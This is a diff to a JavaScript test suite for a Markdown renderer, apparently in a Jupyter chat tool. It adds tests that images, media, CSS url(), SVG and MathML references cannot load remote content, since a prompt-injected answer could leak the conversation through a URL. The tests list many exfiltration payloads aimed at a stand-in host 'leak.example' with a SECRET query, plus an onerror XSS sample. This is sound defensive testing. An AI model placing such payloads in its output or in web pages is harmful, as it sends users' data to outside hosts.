@@ -87,7 +87,7 @@ test('links open in a new tab without an opener; KaTeX, highlight.js and tables 
   );
   for (const a of container.querySelectorAll('a')) {
     assert.equal(a.getAttribute('target'), '_blank');
-    assert.equal(a.getAttribute('rel'), 'noopener noreferrer');
+    assert.equal(a.getAttribute('rel'), 'noopener noreferrer nofollow');
   }
   assert.ok(container.querySelector('.katex .katex-html .mfrac'), 'KaTeX HTML kept');
   assert.ok(container.querySelector('.katex math semantics annotation'), 'KaTeX MathML kept');
@@ -96,11 +96,170 @@ test('links open in a new tab without an opener; KaTeX, highlight.js and tables 
   assert.equal(container.querySelector('td').getAttribute('style'), 'text-align:right');
 });
 
-test('a remote image stays (Markdown images are ordinary output); a relative one loses its URL', () => {
+// ---- nothing fetches by itself: remote images are an exfiltration channel ----------------
+
+// A prompt-injected answer can put the conversation into a URL; anything the browser loads
+// without a click sends it. Every vector below must come out with no attribute that loads.
+const REMOTE = 'https://leak.example/p.png?q=SECRET';
+const FETCH_VECTORS = [
+  ['markdown image', `![secret chart](${REMOTE})`],
+  ['markdown image with title', `![chart](${REMOTE} "title")`],
+  ['reference-style image', `![chart][r]\n\n[r]: ${REMOTE}`],
+  ['autolinked image URL in text stays a link', `see ${REMOTE}`],
+  ['<img src>', `<img src="${REMOTE}" alt="chart">`],
+  ['<IMG SRC> upper case', `<IMG SRC="${REMOTE}" ALT=chart>`],
+  ['<img> with spaces around the URL', `<img src="  ${REMOTE}  ">`],
+  ['<img> protocol-relative', '<img src="//leak.example/p.png?q=SECRET">'],
+  ['<img> relative (Jupyter server)', '<img src="/files/secret.png?q=SECRET">'],
+  ['<img> attachment:', '![a](attachment:secret.png)'],
+  ['<img> data:image/svg+xml', '<img src="data:image/svg+xml,%3Csvg xmlns=%22http://www.w3.org/2000/svg%22%3E%3Cimage href=%22https://leak.example/s%22/%3E%3C/svg%3E">'],
+  ['<img> data:text/html', '<img src="data:text/html,<b>x</b>">'],
+  ['<image> (parsed as <img>)', `<image src="${REMOTE}">`],
+  ['<img srcset>', `<img srcset="${REMOTE} 1x">`],
+  ['<img> data: src with remote srcset', `<img src="data:image/png;base64,iVBORw0KGgo=" srcset="${REMOTE} 2x">`],
+  ['<img lowsrc/dynsrc/longdesc>', `<img lowsrc="${REMOTE}" dynsrc="${REMOTE}" longdesc="${REMOTE}">`],
+  ['<picture><source srcset>', `<picture><source srcset="${REMOTE}"><img src="${REMOTE}" alt="pic"></picture>`],
+  ['<video poster src>', `<video poster="${REMOTE}" src="${REMOTE}"></video>`],
+  ['<video><source src>', `<video><source src="${REMOTE}"><track src="${REMOTE}"></video>`],
+  ['<audio src>', `<audio src="${REMOTE}" autoplay></audio>`],
+  ['<link rel=stylesheet>', `<link rel="stylesheet" href="${REMOTE}">`],
+  ['<link rel=preload as=image>', `<link rel="preload" as="image" href="${REMOTE}">`],
+  ['<link rel=prefetch/dns-prefetch>', `<link rel="prefetch" href="${REMOTE}"><link rel="dns-prefetch" href="//leak.example">`],
+  ['<meta refresh>', `<meta http-equiv="refresh" content="0;url=${REMOTE}">`],
+  ['style background url()', `<div style="background:url(${REMOTE})">x</div>`],
+  ['style background-image url("")', `<p style="background-image: url(&quot;${REMOTE}&quot;)">x</p>`],
+  ['style url() behind a CSS escape', `<p style="background-image: u\\72l(${REMOTE})">x</p>`],
+  ['style image-set()', `<p style="background-image:image-set('${REMOTE}' 1x)">x</p>`],
+  ['style list-style-image/cursor/border-image/content', `<ul style="list-style-image:url(${REMOTE});cursor:url(${REMOTE}),auto;border-image:url(${REMOTE}) 30"><li style="content:url(${REMOTE})">x</li></ul>`],
+  ['<style> @import', `<style>@import url(${REMOTE});</style>`],
+  ['background attribute', `<table background="${REMOTE}"><tr><td background="${REMOTE}">x</td></tr></table>`],
+  ['<body background>', `<body background="${REMOTE}">x</body>`],
+  ['<input type=image>', `<input type="image" src="${REMOTE}">`],
+  ['<iframe>/<object>/<embed>', `<iframe src="${REMOTE}"></iframe><object data="${REMOTE}"></object><embed src="${REMOTE}">`],
+  ['svg <image href>', `<svg><image href="${REMOTE}" width="10" height="10"/></svg>`],
+  ['svg <image xlink:href>', `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${REMOTE}"/></svg>`],
+  ['svg <image> data: href', '<svg><image href="data:image/png;base64,iVBORw0KGgo="/></svg>'],
+  ['svg <use href>', `<svg><use href="${REMOTE}#a"/><use xlink:href="${REMOTE}#b"/></svg>`],
+  ['svg <feImage>', `<svg><filter id="f"><feImage href="${REMOTE}"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`],
+  ['svg fill/filter/mask/clip-path/marker url()', `<svg><rect fill="url(${REMOTE}#p)" stroke="URL(${REMOTE}#p)" filter="url(${REMOTE}#f)" mask="url(${REMOTE}#m)" clip-path="url(${REMOTE}#c)" marker-start="url(${REMOTE}#k)" width="9" height="9"/></svg>`],
+  ['svg attribute url() behind an escape', `<svg><rect fill="u\\72l(${REMOTE})" width="9" height="9"/></svg>`],
+  ['svg <pattern>/<linearGradient>/<textPath>/<mpath>/<tref> href', `<svg><pattern href="${REMOTE}"/><linearGradient xlink:href="${REMOTE}"/><text><textPath href="${REMOTE}">t</textPath><tref xlink:href="${REMOTE}"/></text><animateMotion><mpath href="${REMOTE}"/></animateMotion></svg>`],
+  ['svg <style>', `<svg><style>rect{fill:url(${REMOTE})}</style></svg>`],
+  ['svg inline style url()', `<svg><rect style="fill:url(${REMOTE})" width="9" height="9"/></svg>`],
+  ['MathML <mglyph src>', `<math><mglyph src="${REMOTE}" alt="g"/></math>`],
+  ['MathML href', `<math><mi href="${REMOTE}">x</mi></math>`],
+  ['KaTeX \\includegraphics', `$\\includegraphics[height=1em]{${REMOTE}}$`],
+  ['KaTeX \\href/\\url', `$\\href{${REMOTE}}{x}$ $$\\url{${REMOTE}}$$`],
+  ['image inside a link (badge)', `[![badge](${REMOTE})](https://example.org/page)`],
+  ['svg <a> around an image', `<svg><a href="https://example.org"><image href="${REMOTE}"/></a></svg>`],
+];
+
+// Attributes that make a browser fetch without a click, wherever they appear.
+const FETCHING_ATTRS = ['srcset', 'poster', 'background', 'lowsrc', 'dynsrc', 'data', 'imagesrcset', 'ping'];
+const FETCHING_TAGS = ['link', 'source', 'track', 'video', 'audio', 'input', 'iframe', 'frame', 'object', 'embed', 'style', 'meta', 'base', 'use', 'script'];
+const SAFE_DATA_IMAGE = /^data:image\/(png|jpe?g|gif|webp|avif|bmp)[;,]/i;
+const HTML = 'http://www.w3.org/1999/xhtml';
+
+function assertFetchesNothing(container, label) {
+  for (const el of container.querySelectorAll('*')) {
+    const tag = el.localName.toLowerCase();
+    assert.ok(!FETCHING_TAGS.includes(tag), `${label}: <${tag}> survived`);
+    if (tag === 'img') {
+      assert.match(el.getAttribute('src') ?? '', SAFE_DATA_IMAGE, `${label}: <img src=${el.getAttribute('src')}> fetches`);
+    }
+    const isLink = (tag === 'a' || tag === 'area') && (el.namespaceURI === HTML || el.namespaceURI.endsWith('/svg'));
+    for (const { name, localName, value } of el.attributes) {
+      assert.ok(!FETCHING_ATTRS.includes(localName), `${label}: ${name} on <${tag}> survived`);
+      if (localName === 'src') assert.equal(tag, 'img', `${label}: src on <${tag}> survived`);
+      if (localName === 'href' && !isLink) {
+        assert.ok(value.startsWith('#'), `${label}: ${name}=${value} on <${tag}> survived`);
+      }
+      if (name !== 'title' && name !== 'alt' && !(localName === 'href' && isLink)) {
+        assert.ok(!/url\s*\(|image-set|\\/i.test(value), `${label}: ${name}=${value} on <${tag}> can load`);
+      }
+    }
+  }
+}
+
+test('remote images, srcset, media, CSS url(), SVG/MathML references: nothing fetches', () => {
+  for (const [label, source] of FETCH_VECTORS) {
+    const container = document.createElement('div');
+    container.innerHTML = render(`Before\n\n${source}\n\nafter *text*`);
+    assertFetchesNothing(container, label);
+    assert.match(container.textContent, /after text/, `${label}: the rest of the answer is gone`);
+  }
+});
+
+test('fetching vectors split across chunk boundaries fetch nothing at any render', () => {
+  for (const [label, source] of FETCH_VECTORS) {
+    const text = `Intro ${source} tail\n\n${source}\n`;
+    for (const step of [1, 4, 7]) {
+      const offsets = [];
+      for (let at = step; at < text.length; at += step) offsets.push(at);
+      const { container } = stream(splitAt(text, offsets), {
+        onRender: (live, soFar) => assertFetchesNothing(live, `${label} in chunks of ${step}, at ${soFar.length}`),
+      });
+      assertFetchesNothing(container, `${label} in chunks of ${step}`);
+    }
+  }
+});
+
+test('a remote image becomes its alt text and a link to the URL; nothing else is lost', () => {
   const container = document.createElement('div');
-  container.innerHTML = render('![a](https://example.org/a.png) ![b](/logout) ![c](data:image/png;base64,iVBORw0KGgo=)');
-  const [a, b, c] = container.querySelectorAll('img');
-  assert.equal(a.getAttribute('src'), 'https://example.org/a.png');
-  assert.equal(b.getAttribute('src'), null);
-  assert.equal(c.getAttribute('src'), 'data:image/png;base64,iVBORw0KGgo=');
+  container.innerHTML = render(`Here: ![secret chart](${REMOTE}) and <img src="http://host.example:8080/a.png"> done.`);
+  assert.equal(container.querySelectorAll('img').length, 0);
+  const [first, second] = container.querySelectorAll('.gw-blocked-image');
+  assert.equal(first.textContent, 'secret chart (image from leak.example not loaded)');
+  assert.equal(first.getAttribute('title'), `Image not loaded: ${REMOTE}`);
+  const link = first.querySelector('a');
+  assert.equal(link.getAttribute('href'), REMOTE);
+  assert.equal(link.getAttribute('target'), '_blank');
+  assert.equal(link.getAttribute('rel'), 'noopener noreferrer nofollow');
+  assert.equal(second.textContent, 'image from host.example:8080 not loaded');
+  assert.equal(second.querySelector('a').getAttribute('href'), 'http://host.example:8080/a.png');
+  assert.match(container.textContent, /^Here: .* and .* done\.\s*$/);
+});
+
+test('alt text is text, never markup; an image in a link does not nest a second link', () => {
+  const container = document.createElement('div');
+  container.innerHTML = render(
+    `<img alt="&lt;img src=x onerror=alert(1)&gt;" src="${REMOTE}">\n\n` +
+      `[![build passing](${REMOTE})](https://example.org/ci)\n\n![relative](/logout) ![](attachment:a.png)`,
+  );
+  const [markup, badge, relative, bare] = container.querySelectorAll('.gw-blocked-image');
+  assert.equal(markup.querySelectorAll('*').length, 1, 'the link only');
+  assert.match(markup.textContent, /<img src=x onerror=alert\(1\)> \(image from leak\.example not loaded\)/);
+  assert.equal(badge.closest('a').getAttribute('href'), 'https://example.org/ci');
+  assert.equal(badge.querySelector('a'), null);
+  assert.match(badge.textContent, /build passing \(image from leak\.example not loaded\)/);
+  assert.match(badge.getAttribute('title'), /SECRET/);
+  // Relative and attachment: sources would resolve against the Jupyter server: no URL, no link.
+  assert.equal(relative.textContent, 'relative (image not loaded)');
+  assert.equal(bare.textContent, 'image not loaded');
+  assert.deepEqual([...container.querySelectorAll('a[href]')].map((a) => a.getAttribute('href')), [REMOTE, 'https://example.org/ci']);
+});
+
+test('an inline raster data: image still renders as <img>', () => {
+  const container = document.createElement('div');
+  const png = 'data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==';
+  container.innerHTML = render(`![dot](${png}) <img src="data:image/jpeg;base64,/9j/4AAQ" alt="j"> <img src="data:image/gif;base64,R0lGODlh" alt="g">`);
+  const images = container.querySelectorAll('img');
+  assert.deepEqual([...images].map((img) => img.getAttribute('alt')), ['dot', 'j', 'g']);
+  assert.equal(images[0].getAttribute('src'), png);
+  assert.equal(container.querySelectorAll('.gw-blocked-image').length, 0);
+});
+
+test('SVG links stay links (opened like the others); same-document references stay', () => {
+  const container = document.createElement('div');
+  container.innerHTML = render(
+    '<svg><a href="https://example.org/svg"><text>t</text></a><a xlink:href="https://example.org/x"><text>u</text></a>' +
+      '<pattern href="#p"></pattern></svg>',
+  );
+  const [svgLink, xlink] = container.querySelectorAll('svg a');
+  assert.equal(svgLink.getAttribute('href'), 'https://example.org/svg');
+  assert.equal(svgLink.getAttribute('rel'), 'noopener noreferrer nofollow');
+  assert.equal(svgLink.getAttribute('target'), '_blank');
+  assert.equal(xlink.getAttribute('xlink:href'), 'https://example.org/x');
+  assert.equal(xlink.getAttribute('rel'), 'noopener noreferrer nofollow');
+  assert.equal(container.querySelector('pattern').getAttribute('href'), '#p');
 });
